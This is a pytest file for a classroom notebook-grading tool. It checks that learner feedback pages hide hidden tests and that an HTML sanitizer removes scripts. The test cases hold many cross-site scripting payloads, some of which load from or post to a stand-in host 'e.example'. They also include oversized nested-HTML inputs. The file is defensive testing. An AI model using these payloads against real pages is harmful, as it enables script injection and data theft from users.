"""Feedback pages tell learners how it went, and nothing that is not theirs to see."""

from __future__ import annotations

import base64

import nbformat
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_notebook, new_output
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader import handlers

from rctlab.classroom.exchange.feedback_page import HIDDEN, hide_tests
from rctlab.classroom.exchange.sanitize import safe_html, safe_markdown, safe_outputs
from rctlab.classroom.loop import autograde, feedback
from rctlab.classroom.marking.settle_outputs import SettleOutputs
from rctlab.classroom.settings import nbgrader_settings

PIXEL = base64.b64encode(b"pixel").decode()


@pytest.fixture
def write_page(toy):
    """Write the page of one learner who was marked by an engine that shows what it is given."""

    def write(outputs=None, change=None):
        def engine(notebook, folder):  # noqa: ARG001
            for cell in notebook.cells:
                cell.outputs = [] if cell.cell_type == "code" else None
                if cell.outputs is None:
                    del cell["outputs"]
                elif cell.id in (outputs or {}):
                    cell.outputs = outputs[cell.id]
            return notebook

        toy.hand_in("kim", change)
        autograde(toy.room, "toy", engine=engine)
        (found,) = feedback(toy.room, "toy")
        return BeautifulSoup(found.path.read_text(encoding="utf-8"), "html.parser")

    return write


def test_a_page_has_a_language_a_title_and_the_score(write_page):
    html = write_page()
    assert html.html["lang"] == "en"
    assert html.title.text == "toy"
    assert "toy (Score: 5.0 / 7.0)" in html.text


def test_hidden_tests_do_not_stand_in_the_page(write_page):
    html = write_page()
    assert "hidden-needle" not in str(html)
    assert "BEGIN HIDDEN" not in str(html)
    assert "type(double)" not in html.text
    assert html.text.count(HIDDEN) == 2
    assert "assert double == 20" in html.text


def test_hidden_tests_that_another_cell_printed_are_hidden(write_page):
    line = "assert type(double) is int, 'hidden-needle'"
    quoted = [
        new_output("stream", name="stdout", text=f"1: {line}"),
        new_output("execute_result", data={"text/plain": repr(["x = 1", f'"{line}"\n'])}),
        new_output("error", ename="ValueError", evalue=line, traceback=[f"ValueError: {line}"]),
        new_output("stream", name="stdout", text="mine, and kept"),
    ]
    html = write_page({"setup": quoted})
    assert "hidden-needle" not in str(html)
    assert "mine, and kept" in html.text


def test_the_summary_names_tasks_and_tables_have_room(write_page):
    html = write_page()
    assert [link.text for link in html.select("#toc a")] == ["double", "triple", "why"]
    assert any("td" in style.text and "0.8em" in style.text for style in html.select("style"))


def test_a_traceback_that_quotes_a_hidden_test_is_cut_to_its_message(write_page):
    trace = ["----> 3 \x1b[0;32massert\x1b[0m type(double) is int, 'hidden-needle'"]
    trace[0] = trace[0].replace("\x1b[0;32massert\x1b[0m", "assert")
    error = new_output("error", ename="NameError", evalue="name 'double'", traceback=trace)
    html = write_page({"test-double": [error]})
    assert "NameError: name 'double'" in html.text
    assert "type(double) is int" not in html.text


def test_a_message_of_a_visible_test_stays(write_page):
    error = new_output(
        "error", ename="AssertionError", evalue="twice ten?", traceback=["twice ten?"]
    )
    assert "twice ten?" in write_page({"test-double": [error]}).text


def test_no_script_of_a_learner_reaches_the_page(write_page):
    outputs = [
        new_output("display_data", {"application/javascript": "steal()"}),
        new_output("display_data", {"text/html": "<b>bold</b><script>steal()</script>"}),
        new_output("display_data", {"text/html": "<img src=x onerror='steal()'>"}),
        new_output("display_data", {"text/markdown": "<iframe src='javascript:steal()'></iframe>"}),
        new_output("display_data", {"image/svg+xml": "<svg onload='steal()'></svg>"}),
        new_output("execute_result", {"application/vnd.jupyter.widget-view+json": {"a": "steal"}}),
    ]

    def change(notebook):
        for cell in notebook.cells:
            if cell.id == "why":
                cell.source = "**because** <script>steal()</script> [x](javascript:steal())"

    html = write_page({"double": outputs}, change)
    assert "steal" not in str(html)
    assert html.find("b", string="bold")
    assert html.find("strong", string="because")
    loaded = [script["src"] for script in html.find_all("script", src=True)]
    assert all("mathjax" in address.lower() for address in loaded)


def test_a_pasted_image_of_a_written_answer_stays(write_page):
    def change(notebook):
        for cell in notebook.cells:
            if cell.id == "why":
                cell.source = "![my drawing](attachment:draw.png)"
                cell["attachments"] = {"draw.png": {"image/png": PIXEL}}

    image = write_page(None, change).find("img", alt="my drawing")
    assert image["src"] == f"data:image/png;base64,{PIXEL}"


def test_the_page_of_a_broken_submission_says_why(toy, rooms):
    toy.hand_in("kim").write_text("{")
    autograde(toy.room, "toy", engine=rooms)
    (found,) = feedback(toy.room, "toy")
    text = BeautifulSoup(found.path.read_text(encoding="utf-8"), "html.parser").text
    assert "could not be marked: the notebook is not valid JSON (line 1" in text
    assert "toy (Score: 0.0 / 7.0)" in text
    assert "hidden-needle" not in text


def test_a_comment_and_points_of_the_teacher_stand_in_the_page(toy):
    toy.hand_in("kim")
    autograde(toy.room, "toy", engine=lambda notebook, folder: notebook)
    with Gradebook(toy.room.db_url, "rctlab") as gradebook:
        gradebook.find_grade("why", "toy", "toy", "kim").manual_score = 1.5
        gradebook.find_comment("why", "toy", "toy", "kim").manual_comment = "Say it for *risks*."
        gradebook.db.commit()
    (found,) = feedback(toy.room, "toy")
    text = BeautifulSoup(found.path.read_text(encoding="utf-8"), "html.parser").text
    assert "Score: 6.5 / 7.0" in text
    assert "Say it for risks." in text


def test_only_the_learners_asked_for_get_a_page(toy):
    for learner in ("kim", "ada"):
        toy.hand_in(learner)
    autograde(toy.room, "toy", engine=lambda notebook, folder: notebook)
    assert [found.learner for found in feedback(toy.room, "toy", ["ada"])] == ["ada"]
    assert not toy.room.feedback_page("toy", "kim").exists()


def test_several_hidden_regions_are_hidden():
    source = "a\n### BEGIN HIDDEN TESTS\nx\n### END HIDDEN TESTS\nb\n### BEGIN HIDDEN TESTS\ny"
    assert hide_tests(source).split("\n") == ["a", HIDDEN, "b", HIDDEN]


@pytest.mark.parametrize(
    "html",
    [
        "<script>steal()</script>",
        "<SCRIPT SRC=//e.example/steal.js></SCRIPT>",
        "<script>steal()",
        "<scr<script>ipt>steal()</script>",
        "<a href='javascript:steal()'>x</a>",
        "<a href='java\tscript:steal()'>x</a>",
        "<a href='data:text/html,steal()'>x</a>",
        "<img src='https://e.example/steal.png'>",
        "<div style='background:url(https://e.example/steal)'>x</div>",
        "<style>@import 'https://e.example/steal'</style>",
        "<form action='https://e.example/steal'><input></form>",
        "<svg><animate onbegin='steal()' attributeName='x'></svg>",
        "<math><mtext><style><img src=x onerror=steal()></style></mtext></math>",
        "<details ontoggle='steal()' open>x</details>",
        "<meta http-equiv='refresh' content='0;url=https://e.example/steal'>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>",
        "<base href='https://e.example/steal'>",
    ],
)
def test_nothing_that_runs_or_loads_is_left(html):
    page = BeautifulSoup(safe_html(f"<p>kept</p>{html}"), "html.parser")
    assert page.find("p", string="kept")
    allowed = {"p", "a", "img", "div", "details"}
    assert {tag.name for tag in page.find_all(True)} <= allowed
    for tag in page.find_all(True):
        assert "steal" not in str(tag.attrs)


@pytest.mark.parametrize(
    "html",
    [
        '<table border="1" class="dataframe"><tbody><tr><td>1</td></tr></tbody></table>',
        '<div data-state="right" data-task="t" role="status">2 &lt; 3</div>',
        f'<img alt="dots" src="data:image/png;base64,{PIXEL}" width="10">',
        '<span aria-hidden="true">✔</span>',
        '<a href="https://doi.org/10.1000/1">source</a>',
    ],
)
def test_honest_output_stays_as_it_is(html):
    assert safe_html(html) == html


def test_colours_and_lengths_of_a_style_stay():
    html = safe_html('<p style="color:red;position:fixed;margin:0 2px">x</p>')
    assert "color:red" in html.replace(" ", "")
    assert "margin" in html
    assert "position" not in html


def test_quotes_and_comparisons_in_markdown_survive():
    html = safe_markdown("> 1 < 2\n\n`a < b` & $x < y$")
    assert "<blockquote>" in html
    assert "<code>a &lt; b</code>" in html


@pytest.mark.parametrize(
    "html",
    [
        "".join(f"<b id='{number}'><p>" for number in range(100_000)),
        "".join(f"<b id='{number}'><p>" for number in range(1_000)),  # each <p> opens all <b> again
        "<div>" * 200_000,
        "&" * 1_000_000,
    ],
)
def test_html_without_end_is_not_cleaned_but_left_out(html):
    assert "more HTML than is shown" in safe_html(html)


def test_of_many_large_outputs_only_small_ones_are_cleaned():
    outputs = [
        new_output("display_data", data={"text/html": "<p>x</p>" * size}) for size in (10, 2_000)
    ]
    few = new_notebook(cells=[new_code_cell("1", outputs=outputs)])
    many = new_notebook(cells=[new_code_cell("1", outputs=outputs * 10)])
    for notebook, left_out in ((few, 0), (many, 10)):
        SettleOutputs().preprocess(notebook, {})
        shown = [out.data["text/html"] for out in notebook.cells[0].outputs]
        assert sum("more HTML" in html for html in shown) == left_out
        assert shown[0] == "<p>x</p>" * 10


def test_a_picture_pasted_into_a_text_is_shown_whatever_its_size():
    html = safe_markdown(f"*See* ![plot](data:image/png;base64,{PIXEL * 5_000})")
    assert "<em>See</em>" in html
    assert f'src="data:image/png;base64,{PIXEL * 5_000}"' in html


def test_a_text_that_nobody_writes_is_not_formatted():
    assert safe_markdown("\\begin{a}" * 22_000).startswith("<pre>")


def test_formgrader_shows_written_answers_without_their_scripts(toy):
    """As nbgrader's extension makes its exporter, for the page in the teacher's own browser."""

    def change(notebook):
        for cell in notebook.cells:
            if cell.id == "why":
                cell.source = "**because** <script>steal()</script>"

    toy.hand_in("kim", change)
    (result,) = autograde(toy.room, "toy", engine=lambda notebook, folder: notebook)
    config = nbgrader_settings(toy.room)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    names = ("assignment_id", "notebook_id", "submission_id", "student", "base_url")
    resources = dict.fromkeys((*names, "last_name", "first_name", "notebook_path"), "x")
    exporter = HTMLExporter(config=config)
    html, _ = exporter.from_filename(result.path, resources={**resources, "index": 0, "total": 1})
    assert "<strong>because</strong>" in html
    assert "steal" not in html


def test_an_output_with_nothing_safe_in_it_is_dropped():
    outputs = [
        new_output("display_data", {"application/javascript": "x"}),
        new_output("stream", text="printed"),
        new_output("execute_result", {"text/plain": "1", "application/javascript": "x"}),
    ]
    kept = safe_outputs(new_code_cell("", outputs=outputs).outputs)
    assert [output.output_type for output in kept] == ["stream", "execute_result"]
    assert kept[1].data == {"text/plain": "1"}
    nbformat.validate(nbformat.v4.new_notebook(cells=[new_code_cell("", outputs=kept)]))
